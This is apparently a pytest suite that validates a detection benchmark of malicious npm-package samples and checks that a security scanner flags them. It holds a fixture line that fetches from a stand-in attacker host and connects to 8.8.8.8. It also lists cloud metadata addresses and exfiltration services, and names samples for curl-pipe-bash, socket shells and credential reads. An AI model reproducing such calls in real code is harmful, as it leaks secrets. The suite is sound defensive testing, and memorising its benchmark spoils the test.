"""The detection corpus is what its README says: labelled, inert, evaded, and readable by the real scanner."""

from __future__ import annotations

import base64
import re
import sys
from collections import Counter
from ipaddress import ip_address, ip_network
from pathlib import Path

import pytest

HERE = Path(__file__).parent.parent / "benchmarks" / "detection"
if not HERE.is_dir():
    pytest.skip("the corpus is no part of the source distribution", allow_module_level=True)
sys.path.insert(0, str(HERE))

import judging  # noqa: E402
from corpus import OTHERS, Sample, SampleError, parse, read, sample, samples, unpack  # noqa: E402
from tables import Tool, document  # noqa: E402

CORPUS = list(samples())
ATTACKS = [one for one in CORPUS if one.label == "attack"]
CLASSES = [f"C{number:02}" for number in range(1, 37)]

# Hosts under these can never be reached (RFC 2606, RFC 6761).
NOWHERE = ("invalid", "test", "example", "localhost")
# Documentation addresses (RFC 5737, RFC 3849), and what never leaves the machine.
NOWHERE_NETS = [
    ip_network(net)
    for net in (
        "192.0.2.0/24",
        "198.51.100.0/24",
        "203.0.113.0/24",
        "127.0.0.0/8",
        "0.0.0.0/8",
        "2001:db8::/32",
        "::1/128",
    )
]
METADATA = {"169.254.169.254", "169.254.170.2", "100.100.100.200", "fd00:ec2::254", "0xa9fea9fe", "0xa9feaa02"}
# A service may be named where a class is about it; README.md says how such a name is kept from working.
NAMED = {
    "C12": METADATA | {"metadata.google.internal"},
    "C14": {"api.telegram.org", "discord.com", "webhook.site"},
    "C15": {"api.github.com", "github.com"},
    "C30": {"github.com"},
    "C32": {"api.github.com"},
}
# Behind the name of a service: a port that no connection has or that nobody listens at, or an identifier of zeros.
NEVER = re.compile(r":(?:0|9|99999)(?!\d)|/\S{0,40}0{9}")
HOST = re.compile(r"\b(?:https?|wss?|ssh|git|stratum\+tcp)://(?:[\w.+-]+@)?(\[[0-9a-f:]+\]|[\w.-]+)", re.IGNORECASE)
ADDRESS = re.compile(r"(?<![\w.-])(?:\d{1,3}\.){3}\d{1,3}(?![\w.-])")


def text_of(one: Sample) -> str:
    """Give all text of a sample, and what its base64 literals hold."""
    text = "\n".join(content.decode("utf-8", "replace") for content in one.files.values())
    literals = re.findall(r"[A-Za-z0-9+/]{24,}={0,2}", text)
    return "\n".join([text, *(decoded(literal) for literal in literals if len(literal) % 4 == 0)])


def decoded(literal: str) -> str:
    return base64.b64decode(literal).decode("latin-1")


def hosts(one: Sample) -> set[str]:
    """Give the hosts of all addresses in a sample; a host that is only put together when it runs is not among them."""
    text = text_of(one)
    return {host.strip("[]").lower() for host in HOST.findall(text)} | set(ADDRESS.findall(text))


def unreachable(host: str) -> bool:
    if host.rpartition(".")[2] in NOWHERE or host.isalpha():  # one word: the rest is computed, or a local name
        return True
    try:
        address = ip_address(host)
    except ValueError:
        return False
    return any(address in net for net in NOWHERE_NETS if net.version == address.version)


@pytest.mark.parametrize("one", CORPUS, ids=lambda one: one.title)
def test_a_sample_says_what_it_is_and_is_a_package(one: Sample) -> None:
    assert one.says.endswith(".")
    assert b'"name"' in one.files["package.json"] or one.files["package.json"].startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("one", ATTACKS, ids=lambda one: one.title)
def test_an_attack_reaches_no_host_that_exists(one: Sample) -> None:
    reachable = {host for host in hosts(one) if not unreachable(host)}
    assert reachable <= NAMED.get(one.class_, set())


@pytest.mark.parametrize("one", [one for one in ATTACKS if one.class_ != "C12"], ids=lambda one: one.title)
def test_a_service_that_exists_is_named_so_that_no_call_succeeds(one: Sample) -> None:
    text = text_of(one)
    named = [url for url in HOST.finditer(text) if url[1].lower() in NAMED.get(one.class_, set())]
    assert [url[0] for url in named if not NEVER.match(text, url.end())] == []


@pytest.mark.parametrize("one", ATTACKS, ids=lambda one: one.title)
def test_an_attack_deletes_nothing_that_exists(one: Sample) -> None:
    if one.class_ == "C22":
        assert "x-inert" in text_of(one) or "L3gtaW5lcnQtbm9uZ" in text_of(one)


def test_a_live_host_would_be_noticed() -> None:
    live = {
        "package.json": b'{"name": "x"}',
        "x.js": b"fetch('https://collector.evil.io/x'); net.connect(1, '8.8.8.8')",
    }
    one = sample("x", "seen", "attack", {"label": "attack", "class": "C07", "says": "x."}, live)
    assert {host for host in hosts(one) if not unreachable(host)} == {"collector.evil.io", "8.8.8.8"}


def test_every_class_has_three_attacks_in_its_own_folder_and_one_is_held_out() -> None:
    for class_ in CLASSES:
        of_class = [one for one in ATTACKS if one.class_ == class_]
        assert len(of_class) >= 3, class_
        assert {one.part for one in of_class} == {"seen", "held-out"}, class_
    for path in (
        *HERE.glob("attacks/*/*.txt"),
        *HERE.glob("held-out/attacks/*/*.txt"),
        *(path for name in OTHERS for path in HERE.glob(f"{name}/*/attacks/*/*.txt")),
    ):
        assert read(path).class_ == path.parent.name


def test_half_of_the_attacks_are_evaded_and_a_quarter_is_held_out() -> None:
    assert sum(bool(one.evasions) for one in ATTACKS) >= len(ATTACKS) / 2
    assert 0.25 <= sum(one.part == "held-out" for one in ATTACKS) / len(ATTACKS) <= 0.5


@pytest.mark.parametrize("name", OTHERS)
def test_an_independent_corpus_covers_each_class_and_says_what_it_expects(name: str) -> None:
    some = list(samples(HERE / name))
    assert {one.title for one in some} == {one.title for one in CORPUS if one.corpus == name}
    assert {one.part for one in some} in ({"seen", "held-out"}, {"held-out"})
    allowed = {"benign": {"quiet", "flagged"}, "attack": {"flagged", "blocked"}}
    assert all(one.expect in allowed[one.label] for one in some)
    for class_ in CLASSES:
        parts = [one.part for one in some if one.class_ == class_ and one.label == "attack"]
        enough = 2 if set(parts) == {"seen", "held-out"} else 3
        assert len(parts) >= (enough if {one.part for one in some} != {"held-out"} else 1), class_


@pytest.mark.parametrize(("corpus", "halves"), [("seventh", (33, 27)), ("eighth", (38, 42))])
def test_a_corpus_is_halved_by_names_alone(corpus: str, halves: tuple[int, int]) -> None:
    found = [sample.half for sample in samples() if (sample.corpus, sample.label) == (corpus, "benign")]
    assert (found.count("open"), found.count("closed")) == halves


def test_every_evasion_that_a_folder_can_hold_is_there() -> None:
    used = {number for one in ATTACKS for number in one.evasions}
    assert set(range(1, 49)) - used == {47}  # tar tricks leave no trace in a folder


def test_titles_are_names_of_folders() -> None:
    assert len({one.title for one in CORPUS}) == len(CORPUS)
    assert all(re.fullmatch(r"[\w/-]+", one.title) for one in CORPUS)


def test_the_readme_counts_right() -> None:
    rows = re.findall(r"^\| (C\d\d) \|.*\| (\d+) \| (\d+) \|$", (HERE / "README.md").read_text(), re.MULTILINE)
    counted = Counter((one.class_, one.part) for one in ATTACKS)
    assert [(class_, int(seen), int(held)) for class_, seen, held in rows] == [
        (class_, counted[class_, "seen"], counted[class_, "held-out"]) for class_ in CLASSES
    ]


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("label: attack\n-- ../out --\nx\n-- package.json --\n{}\n", "no plain path"),
        ("label: attack\n-- /etc/x --\nx\n-- package.json --\n{}\n", "no plain path"),
        ("label: attack\nlabel: benign\n-- package.json --\n{}\n", "said twice"),
        ("colour: red\n-- package.json --\n{}\n", "no header line"),
        ("label: attack\n-- index.js --\n", "without package.json"),
        ("label: attack\n-- package.json --\n{}\n-- package.json --\n{}\n", "there twice"),
    ],
)
def test_a_text_that_is_no_sample_is_refused(text: str, why: str) -> None:
    with pytest.raises(SampleError, match=why):
        parse(text)


def test_a_sample_is_unpacked_byte_for_byte(tmp_path: Path) -> None:
    text = "label: attack\n\n-- package.json --\n{}\n-- a/b.js --\nx\u2028y\rz\n\n-- c.bin (base64) --\nAAEC\n/w==\n"
    header, files = parse(text)
    assert header == {"label": "attack"}
    one = sample("x", "seen", "attack", {"label": "attack", "class": "C01", "says": "x."}, files)
    package = unpack(one, tmp_path)
    assert (package / "a" / "b.js").read_bytes() == "x\u2028y\rz\n\n".encode()
    assert (package / "c.bin").read_bytes() == b"\x00\x01\x02\xff"


def test_a_finding_or_a_gap_flags_and_only_an_error_or_a_block_blocks() -> None:
    verdict = {"target": "x", "package": "p", "version": "1", "decision": "review", "findings": [], "gaps": []}
    quiet = {"verdicts": [verdict], "findings": [], "gaps": []}
    info, warning, error = ([{"target": "x", "severity": word}] for word in ("INFO", "WARNING", "ERROR"))
    flagged, blocked = judging.Judgement(flagged=True), judging.Judgement(flagged=True, blocked=True)
    assert judging.judgement(quiet, "x") == judging.Judgement()
    assert judging.judgement(quiet | {"verdicts": [verdict | {"findings": info}]}, "x") == judging.Judgement()
    assert judging.judgement(quiet | {"verdicts": [verdict | {"findings": warning}]}, "x") == flagged
    assert judging.judgement(quiet | {"verdicts": [verdict | {"gaps": [{}]}]}, "x") == flagged
    assert judging.judgement(quiet | {"gaps": [{"target": "x"}]}, "x") == flagged
    assert judging.judgement(quiet | {"gaps": [{"target": "y"}]}, "x") == judging.Judgement()
    assert judging.judgement(quiet | {"findings": error}, "x") == blocked
    found = {"decision": "block", "findings": error}
    assert judging.judgement(quiet | {"verdicts": [verdict | found]}, "x") == blocked


def test_the_tables_name_a_seen_miss_and_keep_a_held_out_one_back() -> None:
    one = next(one for one in ATTACKS if one.part == "seen")
    other = next(one for one in ATTACKS if one.part == "held-out")
    nothing = {one.title: judging.Judgement(), other.title: judging.Judgement()}
    text = document(["# x"], [one, other], [Tool(name="ours", samples=nothing, honest={})], names=False)
    assert f"{one.class_}/{one.name}" in text
    assert other.name not in text
    assert other.name in document(["# x"], [other], [Tool(name="ours", samples=nothing, honest={})], names=True)


@pytest.mark.semgrep
def test_the_plain_attacks_are_noticed_by_the_real_scanner(tmp_path: Path) -> None:
    names = [
        "C01/inline-env-post",
        "C02/curl-bash-plain",
        "C03/get-chmod-spawn",
        "C04/get-eval",
        "C05/base64-eval",
        "C07/env-json-post",
        "C08/depconf-beacon",
        "C10/npmrc-ssh-read",
        "C12/imds-get",
        "C16/detached-node",
        "C23/net-socket-sh",
        "C28/remote-tarball-dependency",
    ]
    plain = [one for one in ATTACKS if f"{one.class_}/{one.name}" in names]
    assert len(plain) == 12
    folders = [unpack(one, tmp_path) for one in plain]
    cache = tmp_path / "cache"
    judged = judging.ours(folders, cache)
    assert [str(folder) for folder in folders if not (judged[folder].flagged or judged[folder].blocked)] == []
